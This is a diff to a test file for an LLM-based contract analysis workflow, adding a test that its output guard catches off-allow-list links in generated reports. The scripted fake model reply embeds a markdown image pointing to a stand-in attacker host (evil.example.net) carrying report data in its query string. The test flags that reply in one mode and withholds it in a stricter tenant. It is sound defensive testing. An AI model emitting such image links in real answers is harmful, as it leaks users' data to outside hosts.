@@ -3,6 +3,8 @@ import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { after, describe, it } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import type { FakeLlmScript } from '../../activities/llm/scripted/script-schema.js';
 import { ingestDocument } from '../../activities/analysis/ingest.js';
 import type { AnalysisReport } from '../../common/analysis-report.js';
 import type { AnalysisRequest } from '../../common/analysis.js';
@@ -20,6 +22,7 @@ import { useAgentTestbed } from '../helpers/agent-testbed.js';
 import { quickRetry } from './agent-harness.js';
 
 const model = 'openai:gpt-4o-mini';
+const guardsFile = fileURLToPath(new URL('../fixtures/guards/observe.yaml', import.meta.url));
 const usage = { inputTokens: 1_000, outputTokens: 100 };
 const costPerCall = computeCostUsd(
   { ...usage, cachedInputTokens: 0, reasoningTokens: 0 },
@@ -27,7 +30,8 @@ const costPerCall = computeCostUsd(
 )!;
 
 void describe('analyzeCorpusWorkflow', () => {
-  const testbed = useAgentTestbed();
+  // The test guards: their tenant `strict` blocks links off its allow-list in an answer.
+  const testbed = useAgentTestbed({ workerEnv: () => ({ LLMOS_GUARDS_FILE: guardsFile }) });
   const output = mkdtempSync(path.join(tmpdir(), 'llmos-corpus-'));
   after(() => rmSync(output, { recursive: true, force: true }));
 
@@ -138,6 +142,42 @@ void describe('analyzeCorpusWorkflow', () => {
     // The parent holds references: no contract text in its history.
     const history = JSON.stringify((await handle.fetchHistory()).events);
     assert.ok(!history.includes('by and between Go Call'), 'contract text in the corpus history');
+  });
+
+  void it("judges the report's prose at the output stage: a flag is kept, a block withholds it", async () => {
+    const sectionsWithImage: NonNullable<FakeLlmScript['rules']>[number] = {
+      match: { responseFormat: '^analysis_sections$' },
+      reply: {
+        json: {
+          sections: [
+            {
+              name: 'executive_summary',
+              markdown:
+                'Three agreements were reviewed. ![chart](https://evil.example.net/c.png?d=liability)',
+            },
+            { name: 'detailed_findings', markdown: 'See the table.' },
+          ],
+        },
+      },
+    };
+    const script = demoAnalysisScript();
+    testbed.fake.setScript({ rules: [sectionsWithImage, ...(script.rules ?? [])] });
+    const flagged = await run({});
+    assert.equal(flagged.result.stop, undefined);
+    assert.deepEqual(
+      flagged.result.guards?.filter((step) => step.subject === 'report').map((step) => step.reasons),
+      [['off-list link: image to evil.example.net']],
+    );
+    assert.match(flagged.report.sections.executive_summary ?? '', /evil\.example\.net/);
+
+    const blocked = await run({ tenant: 'strict' });
+    assert.deepEqual(blocked.result.stop, {
+      stopReason: 'blocked',
+      detail: 'the report was blocked (output guard): off-list link: image to evil.example.net',
+    });
+    assert.doesNotMatch(JSON.stringify(blocked.report.sections), /c\.png\?d=liability/);
+    assert.match(blocked.report.sections.executive_summary ?? '', /^withheld: /);
+    assert.ok(blocked.report.findings.length > 0, 'the findings, checked quote by quote, stay');
   });
 
   void it('stops at the budget, keeps a share for the report, and says what was not analyzed', async () => {
